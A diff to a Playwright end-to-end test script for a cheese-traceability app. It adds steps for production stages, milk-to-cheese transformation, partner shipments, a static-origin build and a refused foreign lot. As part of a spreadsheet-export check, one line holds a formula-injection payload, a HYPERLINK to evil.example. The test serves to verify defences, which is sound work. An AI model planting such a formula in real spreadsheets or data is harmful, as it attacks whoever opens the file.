@@ -5,14 +5,18 @@ Debian's Chromium), on a running network, in a phone-sized viewport:
     scripts/app-journey.py API_URL ENROLMENT_LINK OUT_DIR [AXE_JS [ENGLISH_LINK]]
 
 enrolment link -> first device (admin) -> a Casciotta product and lot ->
-events -> a second device paired and approved (record right only) -> it
-records -> split -> the consumer page shows the events
+its product's steps (an ageing started twice refused on the device) and
+events -> a milk lot made into a Casciotta lot (the yield checked on the
+device) -> a second device paired and approved (record right only) -> it
+records -> split -> a shipment to a partner picked from the list -> the
+consumer page shows the events and the steps
 -> spreadsheets: a file with bad rows refused row by row before anything is
 signed, an XLSX of lots and a CSV of events imported, the exports read back
 with a hostile note neutralised -> a recall by the record-only phone refused, a queued transaction altered
 on the device refused before sending, a recall by the admin -> the second
 device revoked -> its next submission refused -> the same
-screens in English; with ENGLISH_LINK, a shorter journey from another
+screens in English -> the app as static files at another origin, paired,
+recording through CORS; with ENGLISH_LINK, a shorter journey from another
 organisation's enrolment in an English browser. A screenshot of each step goes to OUT_DIR. With AXE_JS
 (axe-core's axe.min.js), axe checks each screen against the WCAG 2.0/2.1 A
 and AA rules and any serious or critical violation fails the run. Prints one
@@ -22,11 +26,14 @@ at the first failed check.
 """
 import io
 import json
+import os
 import re
+import socket
 import subprocess
 import shutil
 import sys
 import time
+import urllib.request
 import zipfile
 
 import openpyxl
@@ -55,6 +62,9 @@ def gtin(body13):
 
 
 GTIN = gtin(GTIN[:13])
+MILK = gtin("0952123410097")  # this dairy's raw sheep milk
+WINERY = "cantina-app-demo"  # the partner of the shipment (onboarded by the test)
+ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
 
 
 def shot(page, name):
@@ -76,7 +86,7 @@ def shot(page, name):
 TITLES = {"#/record": ["Registra un evento", "Record an event"], "#/split": ["Dividi un lotto"],
           "#/devices": ["Dispositivi"], "#/queue": ["Invii", "Submissions"], "#/lot": ["Nuovo lotto"],
           "#/product": ["Nuovo prodotto"], "#/": ["I miei lotti", "My lots"], "#/sheets": ["Fogli di calcolo"],
-          "#/recall": ["Richiamo di un lotto"]}
+          "#/recall": ["Richiamo di un lotto"], "#/transform": ["Trasformazione"]}
 # A receiver's note written to attack whoever opens the export in a spreadsheet.
 HOSTILE_NOTE = '=HYPERLINK("https://evil.example/?x","ok")'
 sheet_checks = {}
@@ -100,6 +110,10 @@ def record_form(page, lot, event, offline=False):
         go(page, "#/record")
     page.select_option("#lot", f"{GTIN}/{lot}")
     page.select_option("#event", event)
+
+
+def fname(text):
+    return re.sub(r"[^a-z0-9-]+", "-", text.lower())
 
 
 def send(page, expect_text):
@@ -285,11 +299,12 @@ def english(browser):
     shot(e, "en-product")
     e.goto(f"{API}/app/#/lot")
     expect(e.locator("h1")).to_have_text("New lot")
-    e.fill("#gtin", wine)
+    e.select_option("#gtin", wine)
+    expect(e.locator("#quantity-hint")).to_have_text("Unit: l.")
     e.fill("#lot", "VJ-2026-EN")
     e.fill("#quantity", "900")
     send(e, "Recorded on the network")
-    for event in ["store", "inspect"]:
+    for event in ["step:ageing_start", "inspect"]:
         e.goto(f"{API}/app/#/record")
         expect(e.locator("h1")).to_have_text("Record an event")
         e.select_option("#lot", f"{wine}/VJ-2026-EN")
@@ -305,6 +320,60 @@ def english(browser):
     shot(e, "en-consumer-page")
     assert not errors, f"script errors in the English journey: {errors}"
     context.close()
+    return wine
+
+
+def static_origin(browser, admin):
+    """Builds the static app for this node, serves it from another port
+    (another origin; localhost is a secure context), pairs a tablet there
+    with the admin phone and records an event from it."""
+    folder = f"{OUT}/static-app"
+    subprocess.run(["bash", f"{ROOT}/scripts/build-app.sh", folder, API], check=True, capture_output=True)
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        port = s.getsockname()[1]
+    server = subprocess.Popen([sys.executable, "-m", "http.server", str(port), "--bind", "127.0.0.1", "--directory", folder],
+                              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    try:
+        origin = f"http://127.0.0.1:{port}"
+        for _ in range(100):
+            try:
+                urllib.request.urlopen(f"{origin}/index.html", timeout=1)
+                break
+            except OSError:
+                time.sleep(0.1)
+        context = browser.new_context(locale="it-IT", **PHONE)
+        context.set_default_timeout(TIMEOUT_MS)
+        c = context.new_page()
+        errors = []
+        c.on("pageerror", lambda x: errors.append(str(x)))
+        c.goto(f"{origin}/")
+        expect(c.locator("h1")).to_have_text("Questo dispositivo non è ancora attivo")
+        c.click("text=Mostra il codice di abbinamento")
+        c.fill("#org", ORG)
+        c.locator("main button[type=submit]").click()
+        code = c.locator("#pairing-code").inner_text().strip()
+        assert len(code) == 64, code
+        go(admin, "#/devices")
+        admin.fill("#code", code)
+        admin.fill("#label", "tablet, sito statico")
+        send(admin, "Registrato in rete")
+        expect(c.locator("h1")).to_have_text("I miei lotti", timeout=TIMEOUT_MS)
+        expect(c.locator("#lots")).to_contain_text("CU-APP-0002")
+        link = c.locator("#lots a").first.get_attribute("href")
+        assert link.startswith(f"{API}/01/"), f"a consumer page link of the static app points at the node: {link}"
+        shot(c, "static-origin-home")
+        c.evaluate("location.hash = '#/record'")
+        expect(c.locator("h1")).to_have_text("Registra un evento")
+        c.select_option("#lot", f"{GTIN}/CU-APP-0002")
+        c.select_option("#event", "inspect")
+        send(c, "Registrato in rete")
+        shot(c, "static-origin-records")
+        assert not errors, f"script errors in the static app: {errors}"
+        context.close()
+    finally:
+        server.terminate()
+        server.wait(timeout=10)
 
 
 def main():
@@ -334,20 +403,64 @@ def main():
         expect(a.locator("#err")).to_have_text("Il GTIN deve avere 14 cifre con la cifra di controllo giusta.")
         shot(a, "product-bad-gtin")
         a.fill("#gtin", GTIN)
+        a.fill("#yield", "150")  # 15 kg of cheese from 100 kg of milk, at most
         send(a, "Registrato in rete")
         shot(a, "product")
         go(a, "#/lot")
-        a.fill("#gtin", GTIN)
+        a.select_option("#gtin", GTIN)
+        expect(a.locator("#quantity-hint")).to_have_text("Unità: kg.")
         a.fill("#lot", LOT)
         a.fill("#quantity", "120")
         send(a, "Registrato in rete")
         shot(a, "lot")
 
-        # 3. Its events.
-        for event in ["store", "inspect"]:
+        # 3. Its events: the steps of a Casciotta first (the app knows the
+        #    protected name from the catalogue), then any event. An ageing
+        #    started twice is refused on the device, before signing.
+        record_form(a, LOT, "step:ageing_start")
+        expect(a.locator("#event optgroup").first).to_have_attribute("label", "Fasi del prodotto")
+        for event in ["step:ageing_start", "inspect"]:
             record_form(a, LOT, event)
             send(a, "Registrato in rete")
-            shot(a, f"event-{event}")
+            shot(a, f"event-{fname(event)}")
+        record_form(a, LOT, "step:ageing_start")
+        a.locator("main button[type=submit]").click()
+        expect(a.locator("#err")).to_have_text("La stagionatura di questo lotto è già iniziata: registrane la fine.")
+        shot(a, "ageing-twice-refused")
+
+        # 3a. Milk made into cheese: a raw-milk product and a lot of it, then
+        #     a transformation; more cheese than the yield allows is refused
+        #     on the device.
+        go(a, "#/product")
+        a.fill("#gtin", MILK)
+        a.fill("#name", "Latte ovino crudo")
+        a.select_option("#scheme", "none")
+        send(a, "Registrato in rete")
+        go(a, "#/lot")
+        a.select_option("#gtin", MILK)
+        a.fill("#lot", "LO-APP-01")
+        a.fill("#quantity", "200")
+        send(a, "Registrato in rete")
+        go(a, "#/transform")
+        milk_input = a.locator(f'.draw[data-lot="LO-APP-01"]')
+        milk_input.fill("250")
+        a.select_option("#gtin", GTIN)
+        a.fill("#lot", "CU-APP-0002")
+        a.fill("#quantity", "30")
+        a.locator("main button[type=submit]").click()
+        expect(a.locator("#err")).to_have_text("Del lotto LO-APP-01 restano solo 200.")
+        milk_input.fill("200")
+        a.fill("#quantity", "31")
+        a.locator("main button[type=submit]").click()
+        expect(a.locator("#err")).to_have_text("Troppo: da 200 la resa massima del prodotto consente al più 30.")
+        shot(a, "transform-yield-checked")
+        a.fill("#quantity", "30")
+        send(a, "Registrato in rete")
+        made = a.request.get(f"{API}/v1/lots/{GTIN}/CU-APP-0002").json()
+        assert made["quantity"] == 30 and made["inputs"][0]["lot"] == "LO-APP-01", made
+        milk = a.request.get(f"{API}/v1/lots/{MILK}/LO-APP-01").json()
+        assert milk["quantity"] == 0, milk
+        shot(a, "transformed")
 
         # 3b. In the cellar, without a connection (the browser's own offline
         #     mode): the app reopens from its service worker, two events are
@@ -375,6 +488,8 @@ def main():
         expect(a.locator("#queue")).not_to_contain_text("rifiutato")
         shot(a, "back-online")
         record_form(a, LOT, "release", offline=True)
+        send(a, "Registrato in rete")
+        record_form(a, LOT, "step:ageing_end")
         send(a, "Registrato in rete")
 
         # 4. A second phone shows its pairing code; the admin approves it
@@ -432,7 +547,7 @@ def main():
         expect(a.locator("#lots")).to_contain_text(f"{LOT}-B")
         shot(a, "home-lots")
 
-        # 6b. Print the label sheet of the two parts, and read every code
+        # 6b. Print the label sheet of the two parts and the transformed lot, and read every code
         #     back with zbarimg from the page as the browser draws it.
         sheet = a.locator("#sheets a.sheet-link")
         expect(sheet).to_have_count(1)
@@ -446,11 +561,25 @@ def main():
         steps.append("label-sheet")
         read = subprocess.run(["zbarimg", "--quiet", "--raw", png], capture_output=True, text=True)
         codes = sorted(set(read.stdout.split()))
-        want = sorted(f"{API}/01/{GTIN}/10/{LOT}-{part}" for part in "AB")
+        want = sorted([f"{API}/01/{GTIN}/10/{LOT}-{part}" for part in "AB"] + [f"{API}/01/{GTIN}/10/CU-APP-0002"])
         assert codes == want, f"zbarimg read {codes}, expected {want} ({read.stderr})"
         labels_read.extend(codes)
         drawn = a.request.get(f"{API}{href}").text()
         assert "Casciotta d&#39;Urbino DOP" in drawn or "Casciotta d&#x27;Urbino DOP" in drawn, "the product's name in clear on the sheet"
+
+        # 6b'. A part shipped to a partner picked from the list of the
+        #      network's organisations; a name not on it is refused first.
+        record_form(a, f"{LOT}-B", "ship")
+        a.fill("#to", "caseificio-inesistente")
+        a.locator("main button[type=submit]").click()
+        expect(a.locator("#err")).to_have_text("Scegli il destinatario dall'elenco delle organizzazioni.")
+        partners = a.locator("#partners option")
+        assert partners.count() >= 2, "the partner list"
+        a.fill("#to", WINERY)
+        shot(a, "ship-partner")
+        send(a, "Registrato in rete")
+        shipped = a.request.get(f"{API}/v1/lots/{GTIN}/{LOT}-B").json()
+        assert shipped["status"] == "in_transit", shipped
 
         # 6c. Spreadsheets: import with a dry run, export neutralised.
         spreadsheets(a)
@@ -472,6 +601,9 @@ def main():
         # 7. The consumer page of the lot shows what was recorded.
         a.goto(f"{API}/01/{GTIN}/10/{LOT}")
         expect(a.locator("body")).to_contain_text("Casciotta d'Urbino DOP")
+        expect(a.locator("body")).to_contain_text("Inizio stagionatura")
+        expect(a.locator("body")).to_contain_text("Fine stagionatura")
+        expect(a.locator("body")).not_to_contain_text("#ageing")
         shot(a, "consumer-page")
 
         # 8. The admin revokes the second phone (two taps); its next
@@ -489,6 +621,11 @@ def main():
         send(b, "non è (più) autorizzato")
         shot(b, "revoked-refused")
 
+        # 8b. The app as a folder of static files on another origin (built
+        #     by scripts/build-app.sh, served by a plain web server): a
+        #     tablet pairs there and records through the node's CORS.
+        static_origin(browser, a)
+
         # 9. The same app in English: the language switch, a recorded event,
         #    the submissions list.
         a.goto(f"{API}/app/")
@@ -504,7 +641,18 @@ def main():
 
         assert not errors, f"script errors in the page: {errors}"
         if ENGLISH_LINK:
-            english(browser)
+            wine = english(browser)
+            # 10. Another organisation's lot, slipped into the form (as a
+            #     tampered page would): the contract refuses it, in words,
+            #     and the lot is unchanged.
+            before = a.request.get(f"{API}/v1/lots/{wine}/VJ-2026-EN").json()
+            go(a, "#/record")
+            a.evaluate("(v) => { const s = document.querySelector('#lot'); s.append(new Option(v, v)); s.value = v; }", f"{wine}/VJ-2026-EN")
+            a.select_option("#event", "inspect")
+            send(a, "The lot is not your organisation's")
+            after = a.request.get(f"{API}/v1/lots/{wine}/VJ-2026-EN").json()
+            assert after["events"] == before["events"] and after["holder"] == before["holder"], (before, after)
+            shot(a, "foreign-lot-refused")
         browser.close()
     print(json.dumps({"steps": steps, "submit_to_final_ms": timings, "labels_read": labels_read, "sheets": sheet_checks,
                       "axe": axe_findings if AXE else "not run"}))
